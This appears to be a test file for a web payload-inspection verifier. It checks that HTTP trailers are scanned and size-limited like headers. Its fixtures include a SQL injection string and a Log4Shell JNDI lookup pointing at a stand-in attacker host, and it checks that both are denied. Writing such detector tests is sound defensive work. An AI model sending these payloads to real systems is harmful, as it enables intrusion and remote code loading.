/**
 * Trailer lines (`rawTrailers`, after a chunked body) are inspected as header lines at `trailer.<name>`, under the
 * header rules (ignoreHeaders, inspectAllHeaders, exclusions), and count against the header limits with the headers.
 */
import { describe, expect, it } from 'vitest';
import { compilePayloadOptions, inspectPayload, type PayloadShieldOptions } from '../../../src/verifiers/payload-shield/index.js';
import { checkTrailerLimits, DEFAULT_LIMITS } from '../../../src/verifiers/payload-shield/limits.js';
import { createPayloadShieldVerifier } from '../../../src/verifiers/payload-shield/verifier.js';
import { request } from './helpers.js';

const SQLI = "' or 1=1--";
const inspect = (rawTrailers: string[], options: PayloadShieldOptions = {}) =>
  inspectPayload(request({ rawTrailers }), { item: 'shoes' }, compilePayloadOptions(options));

describe('trailer inspection', () => {
  it('denies an attack in a trailer at trailer.<name>, passes a benign one', () => {
    const verdict = inspect(['X-Evil', SQLI]);
    expect(verdict.action).toBe('deny');
    expect(verdict.hits[0]?.location).toBe('trailer.x-evil');
    expect(inspect(['X-Checksum', 'sha256-47DEQpj8HBSa'])).toMatchObject({ action: 'allow', score: 0 });
  });

  it('follows ignoreHeaders and exclusions (at trailer.<name>), not header.<name>', () => {
    expect(inspect(['X-Note', SQLI], { ignoreHeaders: ['x-note'] }).action).toBe('allow');
    expect(inspect(['X-Note', SQLI], { exclusions: [{ categories: ['sqli'], targets: ['trailer.x-note'] }] }).action).toBe('allow');
    expect(inspect(['X-Note', SQLI], { exclusions: [{ categories: ['sqli'], targets: ['header.x-note'] }] }).action).toBe('deny');
  });

  it('under inspectAllHeaders: false, reads an unlisted trailer for lookups only, a listed one with every detector', () => {
    expect(inspect(['X-Note', SQLI], { inspectAllHeaders: false }).action).toBe('allow');
    expect(inspect(['X-Note', '${jndi:ldap://attacker.example/a}'], { inspectAllHeaders: false }).action).toBe('deny');
    expect(inspect(['X-Note', SQLI], { inspectAllHeaders: false, headers: ['x-note'] }).action).toBe('deny');
  });

  it('inspects a cookie trailer (no cookie parser reads it) as one value', () => {
    expect(inspect(['Cookie', SQLI]).action).toBe('deny');
  });

  it('reads a repeated name joined, as req.trailers hands it over, besides each line', () => {
    // A patch for the joined value only: neither line matches it alone, Node's `a, b` does.
    const options: PayloadShieldOptions = { virtualPatches: [{ id: 'vp-joined', match: 'role=user, role=admin' }] };
    expect(inspect(['X-Role', 'role=user'], options).action).toBe('allow');
    expect(inspect(['X-Role', 'role=admin'], options).action).toBe('allow');
    const joined = inspect(['X-Role', 'role=user', 'x-role', 'role=admin'], options);
    expect(joined).toMatchObject({ action: 'deny', code: 'payload_attack' });
    expect(joined.hits.map((h) => [h.ruleId, h.location])).toEqual([['vp-joined', 'trailer.x-role']]);
  });
});

describe('trailer limits', () => {
  const limits = { ...DEFAULT_LIMITS, maxHeaderCount: 4, maxHeaderBytes: 100 };
  const headers = { host: 'api.example', 'x-a': '1' };
  const rawHeaders = ['Host', 'api.example', 'X-A', '1'];

  it('counts trailer lines with the header lines, reported at trailer', () => {
    expect(checkTrailerLimits(headers, limits, rawHeaders, ['X-T0', '1', 'X-T1', '1'])).toBeUndefined();
    expect(checkTrailerLimits(headers, limits, rawHeaders, ['X-T0', '1', 'X-T1', '1', 'X-T2', '1'])).toEqual({
      limit: 'maxHeaderCount',
      code: 'payload_too_large',
      location: 'trailer',
    });
  });

  it('counts trailer bytes with the header bytes', () => {
    expect(checkTrailerLimits(headers, limits, rawHeaders, ['X-P', 'a'.repeat(70)])).toBeUndefined();
    expect(checkTrailerLimits(headers, limits, rawHeaders, ['X-P', 'a'.repeat(90)])).toMatchObject({ limit: 'maxHeaderBytes' });
  });

  it('denies 413 through inspectPayload', () => {
    const verdict = inspectPayload(
      request({ rawHeaders: ['User-Agent', 'x'], rawTrailers: Array.from({ length: 100 }, (_, i) => [`X-${i}`, '1']).flat() }),
      undefined,
      compilePayloadOptions({}),
    );
    expect(verdict).toMatchObject({ action: 'deny', code: 'payload_too_large' });
  });
});

describe('ignored trailer names', () => {
  it('still reads an ignored name for Log4Shell lookups, as an ignored header is read', () => {
    expect(inspect(['Authorization', SQLI]).action).toBe('allow');
    expect(inspect(['Authorization', '${jndi:ldap://attacker.example/a}']).action).toBe('deny');
  });
});

describe('virtual patches with a trailer target', () => {
  it('test the value req.trailers holds under trailer.<name>, and only there', () => {
    const options: PayloadShieldOptions = { virtualPatches: [{ id: 'vp-trailer-role', target: 'trailer.x-role', match: 'admin' }] };
    expect(inspect(['X-Role', 'admin'], options)).toMatchObject({ action: 'deny', hits: [{ ruleId: 'vp-trailer-role', location: 'trailer.x-role' }] });
    expect(inspect(['X-Other', 'admin'], options).action).toBe('allow');
  });
});

describe('options', () => {
  it('accept trailer.<name> targets in exclusions and virtual patches', () => {
    expect(() => createPayloadShieldVerifier({ exclusions: [{ targets: ['trailer.x-note'] }], virtualPatches: [{ id: 'vp', target: 'trailer.x-a', match: 'a' }] })).not.toThrow();
    expect(() => createPayloadShieldVerifier({ exclusions: [{ targets: ['trailers.x-note'] }] })).toThrow(/trailer/);
  });
});
